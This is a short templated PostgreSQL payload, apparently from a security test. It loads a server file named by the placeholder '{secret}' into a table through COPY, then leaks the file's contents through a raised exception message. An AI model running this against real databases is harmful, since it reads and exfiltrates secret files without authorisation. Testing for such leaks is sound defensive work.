CREATE TABLE said (line text);
COPY said FROM '{secret}';
DO $$ BEGIN RAISE EXCEPTION 'LEAK %', (SELECT string_agg(line, ' ') FROM said); END $$;
